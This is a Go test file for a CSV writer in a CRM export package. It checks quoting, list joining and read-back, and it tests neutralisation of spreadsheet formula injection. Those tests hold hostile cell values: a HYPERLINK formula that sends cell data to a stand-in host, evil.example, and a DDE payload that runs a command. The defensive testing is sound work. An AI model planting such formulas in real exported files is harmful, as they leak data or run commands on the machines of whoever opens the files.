package crmcsv

import (
	"strings"
	"testing"
)

func TestWriteQuotesAndJoinsLists(t *testing.T) {
	rows := [][]string{
		{"1", "Renewal, 2026", JoinList([]string{"a@x.example", "b@x.example"})},
		{"2", `Say "hi"`, ""},
	}
	var b strings.Builder
	if err := Write(&b, []string{"id", "name", "contacts"}, rows); err != nil {
		t.Fatal(err)
	}
	want := "id,name,contacts\n1,\"Renewal, 2026\",a@x.example;b@x.example\n2,\"Say \"\"hi\"\"\",\n"
	if b.String() != want {
		t.Errorf("csv =\n%s\nwant\n%s", b.String(), want)
	}
}

func TestWriteRejectsRaggedRows(t *testing.T) {
	var b strings.Builder
	if err := Write(&b, []string{"a", "b"}, [][]string{{"1"}}); err == nil {
		t.Error("a row with too few cells was written")
	}
}

func TestWrittenCompaniesReadBack(t *testing.T) {
	var b strings.Builder
	if err := Write(&b, []string{"domain", "name"}, [][]string{{"acme.com", "Acme, Inc."}}); err != nil {
		t.Fatal(err)
	}
	got, err := ReadCompanies(strings.NewReader(b.String()), "companies.csv")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Domain != "acme.com" || got[0].Name != "Acme, Inc." {
		t.Errorf("read back %+v", got)
	}
}

func TestWriteNeutralisesFormulas(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		`=cmd|' /C calc'!A0`,
		"+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
	}
	var b strings.Builder
	if err := Write(&b, []string{"name", "domain"}, [][]string{{hostile[0], "acme.com"}}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), ",=") || strings.Contains(b.String(), "\n=") || strings.Contains(b.String(), "\"=") {
		t.Errorf("a cell still starts with =:\n%s", b.String())
	}
	for _, cell := range hostile {
		got := neutralise(cell)
		if got[0] != '\'' {
			t.Errorf("neutralise(%q) = %q, want a leading quote", cell, got)
		}
		if back := restore(got); back != cell {
			t.Errorf("restore(neutralise(%q)) = %q", cell, back)
		}
	}
	for _, cell := range []string{"Acme", "'quoted", "a=b", "", "1-2"} {
		if got := neutralise(cell); got != cell {
			t.Errorf("neutralise(%q) = %q, want it unchanged", cell, got)
		}
	}
}

func TestNeutralisedCellsReadBack(t *testing.T) {
	name := `=HYPERLINK("http://evil.example/","Click")`
	var b strings.Builder
	if err := Write(&b, []string{"domain", "name"}, [][]string{{"acme.com", name}}); err != nil {
		t.Fatal(err)
	}
	got, err := ReadCompanies(strings.NewReader(b.String()), "companies.csv")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Name != name {
		t.Errorf("read back %+v, want name %q", got, name)
	}
}
